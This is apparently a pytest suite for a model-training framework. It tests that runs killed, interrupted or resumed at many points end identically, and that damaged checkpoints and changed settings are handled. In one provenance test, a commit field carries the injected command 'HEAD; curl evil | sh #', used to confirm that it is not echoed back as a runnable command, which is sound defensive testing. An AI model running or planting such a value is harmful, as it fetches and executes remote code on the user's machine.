"""The same run, whatever happens: killed anywhere, stopped, failing, resumed."""

import json
import re
import shutil
import signal
import zipfile
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import torch
import yaml
import zygote
from clones import call, commit, make_clone, train_file
from conftest import BASE, ENV, TESTS, TINY, TRAIN, Train, assert_same_run, latest, run_train, tree, wait_until

from scaffolding.core.checks.rehearsal import first_difference
from scaffolding.core.folder.facts import Facts
from scaffolding.core.folder.folder import read_status
from scaffolding.core.resume.resume import _way_back
from scaffolding.core.state import checkpoint
from scaffolding.core.state.checkpoint import step_in
from scaffolding.core.tree import changed_keys
from scaffolding.evaluate import evaluate
from scaffolding.experiment import Experiment

STOP = {"KILL_AT": "7", "KILL_WITH": "SIGTERM"}


@pytest.mark.parametrize(
    ("precision", "accumulate", "num_workers"),
    [
        ("float32", 1, 0),
        *(pytest.param(*kind, marks=pytest.mark.full) for kind in product(("bfloat16", "float16"), (1, 3), (0, 2))),
    ],
)
def test_killed_and_resumed_is_identical(
    train: Train, output_root: Path, precision: str, accumulate: int, num_workers: int
) -> None:
    words = (
        *BASE, f"run.precision={precision}", f"run.accumulate={accumulate}", f"loader.num_workers={num_workers}",
        "scheduler=one_cycle", "scheduler.schedule.cycle_momentum=false", "run.ema_decay=0.9", "run.clip_grad_norm=1.0",
        "run.plot_every=null",  # or the end of an epoch would be saved, too
    )  # fmt: skip
    train(*words, "run.name=whole")
    verb: tuple[str, ...] = (*words, "run.name=killed")
    for point in ("update 1", "updated 8", "update 3", "updated 13", "updated 8"):  # the last one after step 24
        train(*verb, env={"STRIKE": point}, code=-signal.SIGKILL)
        verb = ("resume=killed",)
    train(*verb)
    assert_same_run(output_root / "whole", output_root / "killed")


LOOKING = (
    *BASE, "run.budget=8", "run.eval_every=2", "run.rollout_every=4", "run.plot_every=4", "run.save_every=3",
    "loader.batch_size=24", "scheduler=plateau", "run.patience=9", "run.ema_decay=0.9",
    "rollout={_target_:tiny.Rollout}", "+metrics.labels._target_=tiny.FinalLabels",
    "+plots.figure._target_=tiny.Figure", "loss._target_=tiny.CountingLoss",
)  # fmt: skip


@pytest.fixture(scope="module")
def looking_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run that went through; next to it lies a file `trace` of its points (tiny.py), in order."""
    root = tmp_path_factory.mktemp("looking")
    run_train(*LOOKING, f"paths.output_root={root}", "run.name=whole", env={"TRACE": str(root / "trace")})
    return root / "whole"


def test_the_averaged_weights_are_evaluated(looking_run: Path) -> None:
    """Fails where evaluations or rollouts look at the raw weights, though run.ema_decay is set."""
    saved = latest(looking_run)
    assert first_difference(saved["model"], saved["ema"]["raw"]) is not None
    exp = Experiment.from_path(looking_run, checkpoint="latest", device="auto")
    rows = {row["split"]: row for row in exp.history() if row["step"] == exp.state.step}
    assert evaluate(exp, "val")["loss"] == rows["val"]["loss"]
    weights = sum(float(parameter.detach().double().sum()) for parameter in exp.model.parameters())
    assert rows["rollout"]["weights"] == pytest.approx(weights)


STRIKES = [  # environment, exit code, the step that is saved: most of them at step 4, a step with every kind of look
    ({"STRIKE": "os.replace latest.pt 3"}, -signal.SIGKILL, 3),
    ({"STRIKE": "metric 4"}, -signal.SIGKILL, 4),
    ({"STRIKE": "os.replace best.pt 2"}, -signal.SIGKILL, 4),
    ({"STRIKE": "rollout 1"}, -signal.SIGKILL, 4),
    ({"STRIKE": "figure 1"}, -signal.SIGKILL, 4),
    ({"STRIKE": "update 5"}, -signal.SIGKILL, 4),
    ({"FAIL": "metric 2"}, 1, 2),
    ({"FAIL": "rollout 1"}, 1, 4),
    ({"FAIL": "figure 1"}, 1, 8),
    ({"STRIKE": "update 3", "KILL_WITH": "SIGTERM"}, 143, 3),
    ({"STRIKE": "update 3", "KILL_WITH": "SIGINT"}, 130, 3),
    ({"STRIKE": "update 3", "KILL_WITH": "SIGHUP"}, 129, 3),
    ({"STRIKE": "metric 4", "KILL_WITH": "SIGINT"}, 130, 4),
    pytest.param({"STRIKE": "metric 4", "KILL_WITH": "SIGUSR1"}, 138, 4, marks=pytest.mark.full),
]


@pytest.mark.parametrize(("env", "code", "step"), STRIKES, ids=str)
def test_a_run_struck_between_two_steps_is_identical(
    train: Train, output_root: Path, looking_run: Path, env: dict[str, str], code: int, step: int
) -> None:
    """Fails where the state is saved after a look at it, where `best`, patience or a schedule is saved before its file
    is there, or where a look is not repeated. A signal finishes the step; a figure that fails is told at the end only.
    """
    done, run = train(*LOOKING, "run.name=struck", env=env, code=code), output_root / "struck"
    assert latest(run)["state"]["step"] == step
    if "metric" in str(env):
        assert step not in [row["step"] for row in Facts(run / "facts").rows() if row["split"] == "val"]
    if code == 1:
        assert "planted" in done.stderr
    if code > 128:
        status, name = read_status(run), env["KILL_WITH"]
        expected = "interrupted" if name == "SIGINT" else "preempted"
        assert (status["status"], status["reason"], status["step"]) == (expected, name, step)
        assert "resume=struck" in done.stdout and "Traceback" not in done.stderr
    train("resume=struck")
    assert_same_run(looking_run, run)


def test_a_kill_between_the_last_checkpoint_and_the_end_of_an_older_one(
    train: Train, output_root: Path, looking_run: Path
) -> None:
    """Fails where the run keeps one checkpoint too many for ever, as it saves none any more."""
    train(*LOOKING, "run.name=struck", env={"STRIKE": "rollout 2"}, code=-signal.SIGKILL)
    run = output_root / "struck"
    assert latest(run)["state"]["step"] == 8
    shutil.copyfile(run / "checkpoints" / "step_6.pt", run / "checkpoints" / "step_4.pt")
    train("resume=struck")
    assert_same_run(looking_run, run)


@pytest.mark.parametrize("file", ["summary.json", "report.html"])
def test_a_kill_after_the_end_leaves_nothing_that_stays(train: Train, output_root: Path, file: str) -> None:
    """Fails where the run reads as finished, and what was half-written by then is not removed by resume=."""
    train(*BASE, "run.name=run", "run.report=true", env={"STRIKE": f"os.replace {file} 1"}, code=-signal.SIGKILL)
    run = output_root / "run"
    assert (run / f".{file}.tmp").exists() and read_status(run)["status"] == "finished"
    assert "finished" in train("resume=run").stderr
    assert not list(run.rglob(".*.tmp"))


def test_a_signal_while_the_session_begins(train: Train, output_root: Path) -> None:
    train(*BASE, "run.name=run", env={"STRIKE": "os.replace status.json 1", "KILL_WITH": "SIGTERM"}, code=143)
    assert read_status(output_root / "run")["status"] == "preempted"
    train("resume=run")


@pytest.mark.full
def test_a_strike_at_every_point_changes_nothing(train: Train, output_root: Path, looking_run: Path) -> None:
    """Fails where there is a point at which a kill, or a signal, leaves what a resume does not put right."""
    points = (looking_run.parent / "trace").read_text().splitlines()
    assert len(points) > 100
    begun = points.index("update")  # before, there may be no run yet
    strikes = [({"STRIKE": str(number)}, -signal.SIGKILL) for number in range(begun, len(points) + 1)]
    strikes += [({"STRIKE": f"update {step}", "KILL_WITH": "SIGUSR1"}, 138) for step in range(1, 9)]
    for number, (env, code) in enumerate(strikes):
        train(*LOOKING, f"run.name=at{number}", env=env, code=code)
        if read_status(output_root / f"at{number}")["status"] != "finished":
            train(f"resume=at{number}")
        assert_same_run(looking_run, output_root / f"at{number}")


def test_a_full_disk_between_latest_and_best(train: Train, output_root: Path, looking_run: Path) -> None:
    """Fails where a checkpoint says best at a step whose best.pt could not be made."""
    done = train(*LOOKING, "run.name=full", env={"FAIL": "os.replace best.pt 4"})  # at the last step
    assert "could not write" in done.stderr and "a later best is kept" in done.stderr
    best = checkpoint.load(output_root / "full" / "checkpoints" / "best.pt")["state"]["step"]
    assert best == read_status(output_root / "full")["best_step"] == 6
    train(*LOOKING, "run.name=killed", env={"FAIL": "os.replace best.pt 2", "STRIKE": "update 5"}, code=-signal.SIGKILL)
    train("resume=killed")
    assert_same_run(looking_run, output_root / "killed")


def test_second_signal_leaves_at_once(output_root: Path, tmp_path: Path) -> None:
    words = (*BASE, "run.budget=1000000", "run.save_every=null", "run.name=slow", f"paths.output_root={output_root}")
    run = zygote.start([str(TRAIN), *words], tmp_path / "out", tmp_path / "err", env=ENV)
    wait_until(lambda: "step 20/" in run.stderr.read_text())
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGCONT):
        run.send(number)  # both are pending when it goes on: no step lies between them
    assert run.wait(30) in (128 + signal.SIGTERM, 128 + signal.SIGINT)
    assert read_status(output_root / "slow")["status"] == "died"  # it did not stop in good order


# --- workers


@pytest.mark.full
def test_the_number_of_workers_changes_nothing(train: Train, whole_run: Path, output_root: Path) -> None:
    """From the start, or at a resume."""
    for workers in (1, 2):
        train(*BASE, f"loader.num_workers={workers}", f"run.name=workers{workers}")
        assert_same_run(whole_run, output_root / f"workers{workers}")
    train(*BASE, "run.name=killed", env={"KILL_AT": "9"}, code=-signal.SIGKILL)
    assert "loader.num_workers=2 takes effect" in train("resume=killed", "loader.num_workers=2").stderr
    assert_same_run(whole_run, output_root / "killed")


@pytest.mark.full
def test_random_items_through_spawned_workers_in_dev_mode(train: Train, output_root: Path) -> None:
    """Fails where an item depends on the state of the worker process that reads it."""
    done = train(*BASE[:4], "mode=dev", "run.name=dev")
    config = yaml.safe_load((output_root / "dev" / "dev" / "config.yaml").read_text())
    assert (config["loader"]["num_workers"], config["loader"]["start_method"]) == (2, "spawn")
    assert "tensors identical" in done.stdout


# --- what may be changed, and what is left to do


def test_finished_run_says_so_and_changes_nothing(train: Train, whole_run: Path) -> None:
    """Fails where the resume of a finished run writes to its folder."""
    before, root = tree(whole_run), f"paths.output_root={whole_run.parent}"
    assert "is finished at step 24" in train("resume=whole", root).stderr
    assert "fewer than the 24" in train("resume=whole", root, "run.budget=20", code=2).stderr
    assert tree(whole_run) == before


def test_a_change_at_a_resume_is_not_lost_by_a_kill(train: Train, whole_run: Path, output_root: Path) -> None:
    """Fails where config.yaml says a learning rate that the weights were not trained with."""
    train(*BASE, "run.name=straight", env=STOP, code=143)
    train("resume=straight", "optimizer.lr=0.5")
    train(*BASE, "run.name=killed", env=STOP, code=143)
    train("resume=killed", "optimizer.lr=0.5", env={"KILL_AT": "1"}, code=-signal.SIGKILL)
    train("resume=killed")
    assert latest(output_root / "killed")["optimizers"][""]["param_groups"][0]["lr"] == 0.5
    assert_same_run(output_root / "straight", output_root / "killed")
    train(*BASE, "run.name=back", env=STOP, code=143)
    train("resume=back", "optimizer.lr=0.5", env={"KILL_AT": "1"}, code=-signal.SIGKILL)
    train("resume=back", "optimizer.lr=0.01")  # as it was: config.yaml says otherwise by now
    assert yaml.safe_load((output_root / "back" / "config.yaml").read_text())["optimizer"]["lr"] == 0.01
    assert_same_run(whole_run, output_root / "back")
    train(*BASE, "+optimizer.betas=[0.9,0.99]", "scheduler=cosine", "run.name=scheduled", env=STOP, code=143)
    assert "a schedule sets it" in train("resume=scheduled", "optimizer.lr=0.5", code=2).stderr
    train("resume=scheduled", "optimizer.betas=[0.8,0.9]")  # which cosine does not set


def test_a_changed_setting_reaches_the_groups_that_do_not_set_it(train: Train, output_root: Path) -> None:
    groups = "+optimizer.groups=[{max_ndim: 1, lr: 0.004}, {match: '^1', weight_decay: 0.0}]"
    train(*BASE, groups, "run.name=run", env=STOP, code=143)
    train("resume=run", "optimizer.lr=0.5", "+optimizer.weight_decay=0.25", "run.budget=8")
    found = latest(output_root / "run")["optimizers"][""]["param_groups"]
    assert [(group["lr"], group["weight_decay"]) for group in found] == [(0.5, 0.25), (0.004, 0.25), (0.5, 0.0)]


@pytest.mark.parametrize(
    ("name", "setting", "code"),
    [("AdamW", "amsgrad=true", 2), ("RMSprop", "momentum=0.9", 2), ("SGD", "momentum=0.9", 0)],
)
def test_a_setting_whose_state_was_not_kept_is_refused(
    train: Train, output_root: Path, name: str, setting: str, code: int
) -> None:
    """Fails where the first step after the resume finds no such state, and every later resume, too."""
    made = f"+optimizer={{_target_: torch.optim.{name}, lr: 0.001}}"
    train(*BASE, "optimizer=sgd", "~optimizer", made, "run.budget=4", "run.name=run")
    before = (output_root / "run" / "config.yaml").read_bytes()
    done = train("resume=run", f"++optimizer.{setting}", "run.budget=8", code=code)
    assert ("fork=" in done.stderr) == (code == 2)
    assert (before == (output_root / "run" / "config.yaml").read_bytes()) == (code == 2)


def test_figures_come_and_go_at_a_resume(train: Train, output_root: Path) -> None:
    """Fails where one with a state is refused, or where its state is told to be restored by hand."""
    train(*BASE, "run.budget=2", "run.name=run")
    train("resume=run", "run.budget=4", "+plots.own._target_=tiny.CountingFigure")
    assert "plots.own" in latest(output_root / "run")["objects"]
    said = train("resume=run", "run.budget=6", "~plots.own").stderr
    assert "unclaimed" not in said and "plots.own" not in latest(output_root / "run")["objects"]


def test_settings_that_came_and_went_since(train: Train, output_root: Path) -> None:
    """Fails where a field added to config.py, or taken out, locks out every older run."""
    train(*BASE, "run.name=run", env=STOP, code=143)
    file = output_root / "run" / "config.yaml"
    config = yaml.safe_load(file.read_text())
    del config["run"]["patience"], config["loader"]["timeout"]
    config["run"]["olden"] = 3
    file.write_text(yaml.safe_dump(config))
    content = latest(output_root / "run")
    checkpoint.save(output_root / "run" / "checkpoints" / "latest.pt", dict(content) | {"config": config})
    done = train("resume=run", "run.budget=8")
    assert done.stderr.count("run.patience=None") == 1 and done.stderr.count("run.olden") == 1
    assert "run.patience=None takes effect" not in done.stderr and "run.olden=" not in done.stderr
    written = yaml.safe_load(file.read_text())
    assert written["run"]["patience"] is None and "olden" not in written["run"]


def test_a_run_that_its_patience_ended_goes_on_with_more(train: Train, output_root: Path) -> None:
    train(*BASE, "run.monitor_mode=max", "run.patience=1", "run.name=run")  # the loss falls
    before = tree(output_root)
    assert "more run.patience" in train("resume=run").stderr
    assert "more run.patience" in train("resume=run", "run.budget=30").stderr and tree(output_root) == before
    done = train("resume=run", "run.patience=9", "run.budget=30")
    assert "run.patience=9 takes effect" in done.stderr and read_status(output_root / "run")["step"] == 30


def test_code_that_changed_since_is_told_once(train: Train, output_root: Path) -> None:
    train(*BASE, "run.name=run", env=STOP, code=143)
    file = output_root / "run" / "provenance.json"
    record = json.loads(file.read_text())
    assert "has changed since" not in train("resume=run", env={"KILL_AT": "2"}, code=-9).stderr
    file.write_text(json.dumps(record | {"code": "another", "commit": "0123abc"}))
    file.with_name("changes.patch").write_text("x")
    for packed in file.parent.glob("sources*"):  # where git does not know the code
        packed.unlink()
    done = train("resume=run", env={"KILL_AT": "2"}, code=-9)
    assert done.stderr.count("has changed since run ran: it goes on with that of now") == 1
    assert f"git worktree add ../again 0123abc; git -C ../again apply {file.with_name('changes.patch')}" in done.stderr
    assert "has changed since" not in train("resume=run").stderr  # it is that of the last resume


@pytest.mark.skipif(shutil.which("git") is None, reason="there is no git")
def test_the_files_of_code_that_changed_since_are_named(tmp_path: Path) -> None:
    """Fails where a change that was not committed when the run began, and is now, counts as one."""
    clone = make_clone(tmp_path / "clone")
    file, sources = train_file(clone), train_file(clone).parent
    file.write_text(f"{file.read_text()}# edited before the run\n")
    call(clone, file, *BASE, "run.name=run")
    commit(clone)
    losses = sources / "losses.py"
    losses.write_text(f"{losses.read_text()}# edited after it\n")
    (clone / "notes.txt").write_text("not code\n")
    done = call(clone, file, "resume=run", "run.budget=28", "trust=tiny")
    assert f"\nfiles that differ: {losses.relative_to(clone)}\nget it back with: git worktree add" in done.stderr
    shutil.rmtree(clone / ".git")
    losses.write_text(f"{losses.read_text()}# and again\n")
    limits = {"GIT_CEILING_DIRECTORIES": str(tmp_path)}
    done = call(clone, file, "resume=run", "run.budget=32", "trust=tiny", env=limits)
    record = json.loads((clone / "_output/run/provenance.json").read_text())
    now, before = (record["resumed"][index]["code"] for index in (1, 0))
    assert f"\nits hash is {now}, was {before}\n" in done.stderr


# --- damage


def flip_a_bit(file: Path) -> None:
    content = bytearray(file.read_bytes())
    with zipfile.ZipFile(file) as archive:
        largest = max(archive.infolist(), key=lambda entry: entry.file_size)
        position = content.find(archive.read(largest))  # not the space between two records: it means nothing
    content[position + largest.file_size // 2] ^= 1
    file.unlink()  # best.pt and latest.pt may be the same file
    file.write_bytes(content)


def test_damaged_checkpoint_is_named_and_the_one_before_taken(train: Train, whole_run: Path, output_root: Path) -> None:
    train(*BASE, "run.name=damaged", env={"KILL_AT": "11", "KILL_WITH": "SIGTERM"}, code=143)
    folder = output_root / "damaged" / "checkpoints"
    flip_a_bit(folder / "latest.pt")
    done = train("resume=damaged")
    assert f"{folder / 'latest.pt'}" in done.stderr and "damaged" in done.stderr
    assert re.search(r"carrying on from (best|step_10)\.pt, step 10", done.stderr)  # one file, where it was the best
    assert (folder / "latest.pt.damaged").exists()
    assert_same_run(whole_run, output_root / "damaged")
    for file in folder.glob("*.pt"):
        flip_a_bit(file)
    before = tree(output_root)
    assert "no other checkpoint there is whole" in train("resume=damaged", "run.budget=30", code=2).stderr
    assert tree(output_root) == before


def test_the_checkpoint_taken_for_a_damaged_one_may_be_the_best(train: Train, output_root: Path) -> None:
    """Fails where the repeated evaluation finds no latest.pt to link: then a later, worse one becomes the best."""
    words = (*BASE, "run.name=run", "run.budget=8", "run.eval_every=4", "run.monitor_mode=max")  # the loss falls
    train(*words, env={"STRIKE": "metric 2"}, code=None)
    train(*words, "+metrics.labels._target_=tiny.FinalLabels", "run.name=other", env={"STRIKE": "metric 2"}, code=-9)
    folder = output_root / "other" / "checkpoints"
    (folder / "step_4.pt").write_bytes((folder / "latest.pt").read_bytes())
    flip_a_bit(folder / "latest.pt")
    assert "carrying on from step_4.pt, step 4" in train("resume=other").stderr
    assert read_status(output_root / "other")["best_step"] == read_status(output_root / "run")["best_step"] == 4


def test_a_damaged_best_is_given_up_in_words(train: Train, output_root: Path) -> None:
    """Fails where the run cannot be finished any more, or claims a best step whose weights it does not have."""
    words = (*BASE, "run.monitor_mode=max")  # the loss falls: the first evaluation stays the best
    train(*words, "run.name=run", env={"KILL_AT": "13", "KILL_WITH": "SIGTERM"}, code=143)
    folder = output_root / "run" / "checkpoints"
    flip_a_bit(folder / "best.pt")
    done = train("resume=run")
    assert f"{folder / 'best.pt'}" in done.stderr and "the best weights are gone" in done.stderr
    assert (folder / "best.pt.damaged").exists()
    best = checkpoint.load(folder / "best.pt")["state"]["step"]
    assert best == read_status(output_root / "run")["best_step"] == 15
    # while the last step is looked at: no evaluation is left
    flip = {"STRIKE": "figure 1", "KILL_WITH": "SIGSTOP"}
    process = zygote.start(
        [str(TRAIN), *words, "run.eval_every=18", "run.plot_every=24", "+plots.figure._target_=tiny.Figure",
         "run.name=late", f"paths.output_root={output_root}"],
        output_root / "out", output_root / "err", env=ENV | flip,
    )  # fmt: skip
    events = output_root / "late" / "facts" / "events.jsonl"
    wait_until(lambda: events.exists() and '"step": 24' in events.read_text() and stopped(process.pid))
    flip_a_bit(output_root / "late" / "checkpoints" / "best.pt")
    process.send(signal.SIGCONT)
    assert process.wait() == 0
    assert "latest.pt, step 24, is taken in its place" in (output_root / "err").read_text()


def stopped(pid: int) -> bool:
    return "State:\tT" in Path(f"/proc/{pid}/status").read_text()


def test_a_machine_that_may_round_otherwise_is_said(train: Train, output_root: Path) -> None:
    train(*BASE, "run.name=run", env=STOP, code=143)
    content = latest(output_root / "run")
    file = output_root / "run" / "checkpoints" / "latest.pt"
    checkpoint.save(file, dict(content) | {"numerics": content["numerics"] | {"torch": "1.0"}})
    assert f"torch is {torch.__version__}, was 1.0: from here on the last bits may differ" in train("resume=run").stderr


def test_rows_cut_at_a_resume_are_kept_aside(train: Train, output_root: Path) -> None:
    train(*BASE, "run.name=run", env={"KILL_AT": "7"}, code=-9)
    facts = Facts(output_root / "run" / "facts")
    lost = [row for row in facts.rows() if row["step"] > 5 or (row["step"], row["split"]) == (5, "val")]
    with open(facts.scalars_file, "a") as file:
        file.write("7,0,11")  # torn
    with open(facts.events_file, "a") as file:
        file.write('{"event": "on_sa')
    train("resume=run")
    cut = [json.loads(line) for line in facts.cut_file.read_text().splitlines()]
    assert [line for line in cut if "torn" not in line] == [{"cut_at": 5, **row} for row in lost]
    assert {line["torn"] for line in cut if "torn" in line} == {"7,0,11", '{"event": "on_sa'}
    assert [row["step"] for row in facts.rows() if row["split"] == "train"] == list(range(1, 25))
    events = [json.loads(line)["event"] for line in facts.events_file.read_text().splitlines()]
    assert events.count("on_start") == events.count("on_resume") == 1


def test_without_a_monitor_the_last_weights_are_tested_after_a_kill(train: Train, output_root: Path) -> None:
    """Fails where the kill came between the last checkpoint and its link, and an older one stays the best."""
    words = (*BASE, "run.monitor=null", "run.budget=8")
    train(*words, "run.name=whole", env={"TRACE": str(output_root / "trace")})
    last = (output_root / "trace").read_text().splitlines().count("os.replace best.pt")
    assert last >= 2
    train(*words, "run.name=killed", env={"STRIKE": f"os.replace best.pt {last}"}, code=-signal.SIGKILL)
    shutil.copytree(output_root / "killed", output_root / "parent")
    train("resume=killed")
    assert_same_run(output_root / "whole", output_root / "killed")
    train("--config-dir", str(TESTS / "configs"), "fork=parent", "run.budget=9", "run.name=child", "run.monitor=null")
    assert step_in(output_root / "child" / "checkpoints" / "parent.pt") == 8


def test_what_is_not_a_number_is_not_a_change() -> None:
    """Fails where NaN in a config makes a run that cannot be resumed."""
    assert changed_keys({"a": float("nan"), "b": 1}, {"a": float("nan"), "b": 1.0}) == {}
    assert changed_keys({"a": float("nan")}, {"a": 0.0}).keys() == {"a"}
    assert changed_keys({"limit_x": 1, "limit_y": 2}, {"limit_x": 1.0, "limit_y": 2.0}) == {"limit_x": (1, 1.0)}


@pytest.mark.parametrize(
    ("entry", "way"),
    [
        ({"commit": "0123abcd"}, "get it back with: git worktree add ../again 0123abcd"),
        ({"commit": "HEAD; curl evil | sh #"}, "check out the code it ran"),
        ({"commit": "0123abcd", "step": 3}, "get it back with: git worktree add ../again 0123abcd; "
         "git -C ../again apply '{run}/changes_3.patch'"),
        ({"commit": "HEAD; x", "step": 3}, "check out the code it ran, and apply {run}/changes_3.patch"),
        ({"commit": None, "step": 5}, "get it back from: {run}/sources_5.tar.gz"),
    ],
)  # fmt: skip
def test_the_way_back_to_the_code_can_be_pasted(tmp_path: Path, entry: dict[str, Any], way: str) -> None:
    """Fails where a stranger's record becomes a command, or git is given an empty patch."""
    run = tmp_path / "o b"
    run.mkdir()
    (run / "changes.patch").touch()
    (run / "changes_3.patch").write_text("x")
    (run / "sources_5.tar.gz").touch()
    assert _way_back(run, entry) == way.format(run=run)


def test_a_record_of_other_types_is_read(train: Train, output_root: Path) -> None:
    train(*BASE, "run.name=run", "run.budget=2")
    file = output_root / "run" / "provenance.json"
    record = json.loads(file.read_text())
    file.write_text(json.dumps(record | {"parent": "x", "resumed": [5, {"step": "../x"}]}))
    train("resume=run", "run.budget=3")
    again = json.loads(file.read_text())
    assert again["parent"] is None and [entry["step"] for entry in again["resumed"]] == [3]
    file.write_text(json.dumps(record | {"parent": "x", "resumed": 5}))
    assert "rows identical" in train("rerun=run", "run.name=again", "run.budget=3", code=None).stdout


def test_a_fork_that_was_killed_at_its_start_has_not_reached_its_parents_target(
    train: Train, output_root: Path
) -> None:
    train(*BASE, "run.name=parent", "run.target_loss=100")
    words = ("--config-dir", str(TESTS / "configs"), "fork=parent", "fork_state=true", "run.name=child")
    train(*words, env={"KILL_AT": "1"}, code=-signal.SIGKILL)
    train("resume=child")
    assert read_status(output_root / "child")["step"] == read_status(output_root / "parent")["step"] + 1


def test_a_position_behind_the_end_of_an_epoch_is_refused(train: Train, output_root: Path) -> None:
    """Fails where the resumed run waits for ever for a batch."""
    train(*BASE, "run.name=run", env=STOP, code=143)
    file = output_root / "run" / "checkpoints" / "latest.pt"
    content = checkpoint.load(file)
    content["state"]["position"] = 5000
    checkpoint.save(file, dict(content))
    assert "data: run stands at batch 5000 of an epoch, which now has" in train("resume=run", code=2).stderr


def test_a_rehearsal_starts_after_the_last_change_of_settings(train: Train) -> None:
    """With a longer budget the steps before it are not looked at as they were, which is no fault of the user's code."""
    train(*TINY[:-1], "mode=dev", "run.budget=2", "run.name=run", "loader.num_workers=0")
    proofs = []
    for budget in (3, 30):
        said = train("resume=dev/run", f"run.budget={budget}", "trust=tiny").stdout
        proofs += [line.partition(": ")[2] for line in said.splitlines() if line.startswith("resume rehearsal: ")]
    assert proofs[0].startswith("none: ") and proofs[1].endswith(" tensors identical")
